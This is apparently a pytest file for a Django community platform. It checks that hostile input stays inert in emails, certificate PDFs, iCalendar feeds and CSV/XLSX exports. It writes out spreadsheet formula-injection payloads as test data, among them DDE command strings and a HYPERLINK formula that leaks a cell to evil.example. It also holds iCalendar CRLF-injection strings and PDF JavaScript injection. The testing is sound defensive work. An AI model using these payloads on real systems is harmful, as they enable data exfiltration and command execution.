"""The XSS corpus (tests/hostile.py) in every output beyond HTML pages where people's
text ends up: notification emails (both parts, subject and headers), the certificate
PDF, iCalendar downloads and feeds, and the CSV/XLSX exports (formula injection).
The platform has no RSS or Atom feed; its only feeds are the iCalendar ones.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone

from tests.hostile import MARKER, PAYLOADS, assert_inert
from tests.hostile_world import world_fixture

world = world_fixture()

# Cells a spreadsheet would run as a formula (OWASP's list of first characters).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"XSS")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INJECTIONS = [
    "XSS\r\nATTENDEE:mailto:evil@evil.example",
    "XSS\rATTENDEE:mailto:evil@evil.example",
    "XSS\nEND:VEVENT\nBEGIN:VEVENT",
]


def _person(first: str, last: str = "Achternaam"):
    from tests.forums import person

    return person(first[:150], last[:150])


# Notification emails -----------------------------------------------------------------


def _send_everything(mailoutbox):
    from via_platform.notifications import services as notifications
    from via_platform.notifications.models import Delivery, Happening

    for happening in Happening.objects.all():
        notifications.fan_out(happening.pk)
    for pk in Delivery.objects.values_list("pk", flat=True):
        notifications.send_delivery(pk)
    return list(mailoutbox)


def _check_message(message) -> None:
    assert "\n" not in message.subject and "\r" not in message.subject, message.subject
    for name, value in message.extra_headers.items():
        assert "\n" not in str(value) and "\r" not in str(value), (name, value)
    for address in [message.from_email, *message.to]:
        assert "\n" not in address and MARKER not in address
    html_parts = [content for content, mimetype in message.alternatives if mimetype == "text/html"]
    assert html_parts, message.subject
    for html in html_parts:
        assert_inert(html)
    # The text part is text: what people wrote shows as they wrote it, not rendered.
    assert "&lt;" not in message.body and "&#x27;" not in message.body
    for attachment in message.attachments:
        if isinstance(attachment, tuple):
            content, mimetype = attachment[1], attachment[2]
        else:  # a MIME part
            content, mimetype = attachment.get_payload(decode=True), attachment.get_content_type()
        if mimetype.startswith("text/calendar"):
            _check_calendar(content if isinstance(content, bytes) else content.encode())


def test_notification_emails_carry_hostile_text_inert(world, db, mailoutbox, settings):
    """Coordinator messages (subject and body), a request to join with a hostile name
    and message, and event registrations for events with hostile titles and venues:
    every email's HTML is inert, its text part literal, its headers single lines, and
    its calendar invitation free of injected properties."""
    from via_platform.communities import services as communities
    from via_platform.communities.models import CommunityPage, JoinPolicy
    from via_platform.events import services as events
    from via_platform.events.models import EventPage

    settings.COMMUNITIES_MESSAGES_PER_HOUR = 10_000
    place = world.community
    for payload in PAYLOADS:
        communities.send_message(world.coordinator, place, subject=payload[:200], body=payload)

    CommunityPage.objects.filter(pk=place.pk).update(join_policy=JoinPolicy.ON_REQUEST)
    place = CommunityPage.objects.get(pk=place.pk)
    for payload in PAYLOADS[:8]:
        communities.join(_person(payload), place, message=payload)

    for n, payload in enumerate([*PAYLOADS[::3], *INJECTIONS]):
        EventPage.objects.filter(pk=world.event.pk).update(
            title=payload[:255], venue_name=payload[:200], address=payload, summary=payload[:600]
        )
        event = EventPage.objects.get(pk=world.event.pk)
        occurrence = event.occurrences.first()
        events.register(_person(f"Deelnemer {n}"), occurrence, dietary_needs=payload[:300])

    sent = _send_everything(mailoutbox)
    assert len(sent) >= len(PAYLOADS) + 8, len(sent)
    subjects = " ".join(m.subject for m in sent)
    assert "<script>alert('XSS')</script>" in subjects  # literal text, not dropped
    for message in sent:
        _check_message(message)


# Certificate PDF ---------------------------------------------------------------------

# Keys that make a PDF do something on its own: run script, open a URL, launch a file.
ACTIVE_KEYS = {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/URI", "/SubmitForm",
               "/ImportData", "/RichMedia", "/EmbeddedFile", "/EmbeddedFiles", "/AcroForm",
               "/Annots", "/XFA"}  # fmt: skip


def _active_keys(reader) -> set[str]:
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    found: set[str] = set()
    seen: set[tuple] = set()
    stack = [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            key = (item.idnum, item.generation)
            if key in seen:
                continue
            seen.add(key)
            item = item.get_object()
        if isinstance(item, DictionaryObject):
            found |= ACTIVE_KEYS & set(item.keys())
            stack.extend(item.values())
        elif isinstance(item, ArrayObject):
            stack.extend(item)
    return found


def test_certificate_pdf_prints_every_payload_as_plain_text(world, db):
    from pypdf import PdfReader

    from via_platform.learning import certificates
    from via_platform.learning.models import Certificate, Enrolment

    enrolment = Enrolment.objects.get(user=world.member, course=world.course)
    certificate = Certificate.objects.create(
        enrolment=enrolment, learner_name="x", course_title="x", hours=Decimal("2.5"),
        organisation_name="x", completed_on=timezone.localdate(), issued_at=timezone.now(),
    )  # fmt: skip
    pdf_syntax = ") Tj /JavaScript (XSS) \\"
    for payload in [*PAYLOADS, pdf_syntax, "XSS\r\n/OpenAction << /S /JavaScript >>"]:
        certificate.learner_name = payload[:300]
        certificate.course_title = f"Cursus {payload}"[:300]
        certificate.organisation_name = f"Stichting {payload}"[:300]
        reader = PdfReader(io.BytesIO(certificates.certificate_pdf(certificate)))
        assert _active_keys(reader) == set(), payload
        text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
        printable = " ".join(certificates.printable(payload, certificates.BOLD).split())
        assert printable[:40] in text, (payload, text)
        assert reader.metadata.title.endswith(f"Cursus {payload}"[:300])


def test_the_active_content_check_finds_a_script(world):
    """The check above is not blind: a PDF with an OpenAction script is caught."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("XSS")}
    )
    writer.root_object[NameObject("/OpenAction")] = script
    buffer = io.BytesIO()
    writer.write(buffer)
    assert _active_keys(PdfReader(io.BytesIO(buffer.getvalue())))


# iCalendar ---------------------------------------------------------------------------


def _check_calendar(data: bytes, expected_texts=()) -> None:
    """Parse `data`; no line of it starts a component or property that a payload
    smuggled in (CRLF injection), and the payloads come back as literal text values."""
    from icalendar import Calendar

    # Lines end in CRLF and nowhere else: a lone CR or LF is a line break to some readers.
    assert data.replace(b"\r\n", b"").count(b"\r") == 0
    assert data.replace(b"\r\n", b"").count(b"\n") == 0
    calendar = Calendar.from_ical(data)
    events = [c for c in calendar.walk() if c.name == "VEVENT"]
    for component in events:
        assert "ATTENDEE" not in component or "evil.example" not in str(component["ATTENDEE"])
    unfolded = data.decode().replace("\r\n ", "").replace("\r\n\t", "")
    for line in unfolded.split("\r\n"):
        name = line.split(":", 1)[0].split(";", 1)[0]
        assert not (name.upper() in {"ATTENDEE", "BEGIN", "END"} and "evil" in line), line
        assert not line.upper().startswith("BEGIN:VEVENT") or line == "BEGIN:VEVENT", line
    lines = unfolded.split("\r\n")
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == len(events)
    texts = {str(c.get("summary")) for c in events} | {str(c.get("location")) for c in events}
    texts |= {str(c.get("description")) for c in events}
    texts = {" ".join(text.split()) for text in texts}
    for expected in expected_texts:
        expected = " ".join(expected.split())  # line breaks come back as \n
        assert any(expected in text for text in texts), expected


def test_ical_downloads_and_feeds_keep_hostile_titles_literal(world, db):
    from via_platform.events.models import EventPage

    client = Client()
    client.force_login(world.member)
    for payload in [*PAYLOADS, *INJECTIONS]:
        EventPage.objects.filter(pk=world.event.pk).update(
            title=payload[:255], venue_name=payload[:200], address=payload, summary=payload[:600]
        )
        for url in [
            f"/agenda/evenement/{world.event.pk}.ics",
            f"/agenda/netwerk/{world.community.pk}.ics",
        ]:
            response = client.get(url)
            assert response.status_code == 200, url
            assert response["Content-Type"].startswith("text/calendar")
            _check_calendar(response.content, expected_texts=[payload[:200]])


def test_the_calendar_check_catches_an_injected_attendee():
    raw = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:1\r\n"
        "SUMMARY:XSS\r\nATTENDEE:mailto:evil@evil.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    with pytest.raises(AssertionError):
        _check_calendar(raw.encode())


# Exports -----------------------------------------------------------------------------


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(response.content))
    return [
        str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row
        if cell.value is not None
    ]  # fmt: skip


def _assert_no_formula(cells: list[str], expected: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for value in expected:
        # Kept as typed, or with the surrounding white space a form strips.
        assert any(cell in (f"'{value}", f"'{value.strip()}") for cell in cells), (value, cells)


def test_exports_neutralise_formulas_in_every_cell(world, db):
    """Names, organisations and dietary needs that start like a formula come out of the
    member list, the attendee list (CSV and XLSX) and the learner list as text."""
    from tests.forums import member
    from via_platform.accounts.models import Profile
    from via_platform.events import services as events
    from via_platform.learning import services as learning
    from via_platform.organisations.models import Organisation

    occurrence = world.event.occurrences.first()
    people = []
    for n, formula in enumerate(FORMULAS):
        organisation = Organisation.objects.create(
            name=formula, slug=f"formule-{n}", kind="gemeente", approved=True
        )
        user = _person(formula, formula)
        Profile.objects.update_or_create(user=user, defaults={"organisation": organisation})
        member(world.community, user)
        events.register(user, occurrence, dietary_needs=formula)
        learning.enrol(user, world.course)
        people.append(user)

    client = Client()
    client.force_login(world.coordinator)
    members_csv = client.get(f"{world.community.url}leden/export/")
    attendees_csv = client.get(f"{world.event.url}deelnemers/export/csv/?datum={occurrence.pk}")
    attendees_xlsx = client.get(f"{world.event.url}deelnemers/export/xlsx/?datum={occurrence.pk}")
    learners_csv = client.get(f"{world.course.url}deelnemers/export/csv/")
    for response in (members_csv, attendees_csv, attendees_xlsx, learners_csv):
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
    # The organisation's name is there as itself; a name is "first last".
    _assert_no_formula(_csv_cells(members_csv), FORMULAS)
    _assert_no_formula(_csv_cells(attendees_csv), FORMULAS)
    _assert_no_formula(_xlsx_cells(attendees_xlsx), FORMULAS)
    _assert_no_formula(_csv_cells(learners_csv), FORMULAS)


@pytest.mark.parametrize("value", [*FORMULAS, "=1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_safe_cell_neutralises_every_formula_start(value):
    from via_platform.exports import safe_cell

    assert safe_cell(value) == f"'{value}"
    assert safe_cell(f"Gewoon {value}") == f"Gewoon {value}"


def test_exports_are_not_cached_and_stay_attachments(world, db):
    client = Client()
    client.force_login(world.coordinator)
    response = client.get(f"{world.community.url}leden/export/")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment")
